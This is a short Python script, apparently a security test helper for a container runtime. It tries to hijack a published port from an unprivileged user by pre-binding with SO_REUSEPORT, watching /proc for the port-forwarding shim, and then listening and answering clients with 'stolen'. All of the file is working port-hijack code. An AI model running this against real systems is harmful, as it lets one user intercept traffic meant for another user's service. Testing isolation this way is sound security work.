"""Takes a published port from the user who runs it.  Run as a program:  thief.py UID IP PORT

Binds before there is a container, with every option that may share a port, and does not listen; waits for the
shim, and listens as soon as that holds the port, again and again.  Says "bound", then "took it" or "refused".
"""

import contextlib
import os
import socket
import sys
import time
from pathlib import Path

TRIES_FOR = 1.0  # seconds: far longer than Envoy needs to come


def become(user: int) -> None:
    os.setgroups([])
    os.setgid(user)
    os.setuid(user)


def is_parked(ip: str, port: str) -> bool:
    """Whether there is a shim for all addresses of this family that has come to rest, as any user may see."""
    flags = ["-host-ip", "::" if ":" in ip else "0.0.0.0", "-host-port", port, ""]
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            command = path.read_bytes()
            if "\0".join(flags).encode() in command and b"parked" in command:
                return True
    return False


def shared_socket(ip: str, port: int) -> socket.socket:
    sock = socket.socket(socket.AF_INET6 if ":" in ip else socket.AF_INET)
    if ":" in ip:
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    sock.bind((ip, port))
    return sock


def take(ip: str, port: int, early: socket.socket) -> socket.socket | None:
    """A socket that listens there: the one that was bound before, or another one."""
    deadline = time.monotonic() + TRIES_FOR
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError):
            early.listen()
            return early
        with contextlib.suppress(OSError):
            late = shared_socket(ip, port)
            late.listen()
            return late
    return None


def main() -> None:
    user, ip, port = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    become(user)
    early = shared_socket(ip, port)
    print("bound", flush=True)
    while not is_parked(ip, str(port)):
        pass
    taken = take(ip, port, early)
    print("refused" if taken is None else "took it", flush=True)
    while taken is not None:
        with taken.accept()[0] as victim:
            victim.sendall(b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 7\r\n\r\nstolen\n")


if __name__ == "__main__":
    main()
